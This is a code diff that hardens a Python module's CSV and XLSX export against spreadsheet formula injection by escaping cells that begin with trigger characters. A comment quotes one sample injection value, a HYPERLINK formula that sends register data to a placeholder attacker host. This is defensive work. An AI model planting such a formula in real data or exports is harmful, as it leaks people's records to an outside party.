@@ -340,16 +340,43 @@ class Table:
         }
 
 
+# A spreadsheet reads a cell starting with one of these as a formula (or DDE command): an applicant
+# named =HYPERLINK("http://evil.example/?d="&A1,"Xem") would leak the register to whoever clicks.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(value: Cell) -> bool:
+    """Whether a spreadsheet would evaluate ``value`` instead of showing it (the one place deciding)."""
+    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)
+
+
+def _csv_cell(value: Cell) -> Cell:
+    # CSV has no cell types: the leading apostrophe is the convention Excel and LibreOffice honour.
+    if value is None:
+        return ""
+    return f"'{value}" if formula_like(value) else value
+
+
 def to_csv(table: Table) -> bytes:
-    """CSV with a UTF-8 BOM (Excel otherwise garbles Vietnamese); title lines first."""
+    """CSV with a UTF-8 BOM (Excel otherwise garbles Vietnamese); title lines first; formula-like
+    text neutralised."""
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerow([table.title])
+    writer.writerow([_csv_cell(table.title)])
     for line in table.subtitle:
-        writer.writerow([line])
-    writer.writerow(table.headers)
-    writer.writerows(["" if c is None else c for c in row] for row in table.rows)
+        writer.writerow([_csv_cell(line)])
+    writer.writerow([_csv_cell(h) for h in table.headers])
+    writer.writerows([_csv_cell(c) for c in row] for row in table.rows)
     return ("\ufeff" + out.getvalue()).encode("utf-8")
+
+
+def _xlsx_value(cell: Any, value: Cell) -> None:
+    """Write ``value``; formula-like text is stored as a text cell (with Excel's quote prefix), so it
+    is shown exactly as typed and never evaluated."""
+    cell.value = value
+    if formula_like(value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
 
 
 def to_xlsx(table: Table) -> bytes:
@@ -365,22 +392,23 @@ def to_xlsx(table: Table) -> bytes:
     width = max(1, len(table.headers))
     lines = [table.title, *table.subtitle]
     for index, line in enumerate(lines, start=1):
-        sheet.cell(row=index, column=1, value=line).font = Font(
-            bold=index == 1, size=13 if index == 1 else 11
-        )
+        _xlsx_value(sheet.cell(row=index, column=1), line)
+        sheet.cell(row=index, column=1).font = Font(bold=index == 1, size=13 if index == 1 else 11)
         sheet.merge_cells(start_row=index, start_column=1, end_row=index, end_column=width)
         sheet.cell(row=index, column=1).alignment = Alignment(horizontal="center")
     thin = Side(style="thin")
     border = Border(left=thin, right=thin, top=thin, bottom=thin)
     header_row = len(lines) + 2
     for col, name in enumerate(table.headers, start=1):
-        cell = sheet.cell(row=header_row, column=col, value=name)
+        cell = sheet.cell(row=header_row, column=col)
+        _xlsx_value(cell, name)
         cell.font = Font(bold=True)
         cell.alignment = Alignment(wrap_text=True, horizontal="center", vertical="center")
         cell.border = border
     for r, row in enumerate(table.rows, start=header_row + 1):
         for col, value in enumerate(row, start=1):
-            cell = sheet.cell(row=r, column=col, value=value)
+            cell = sheet.cell(row=r, column=col)
+            _xlsx_value(cell, value)
             cell.border = border
             cell.alignment = Alignment(wrap_text=True, vertical="top")
     for col, name in enumerate(table.headers, start=1):
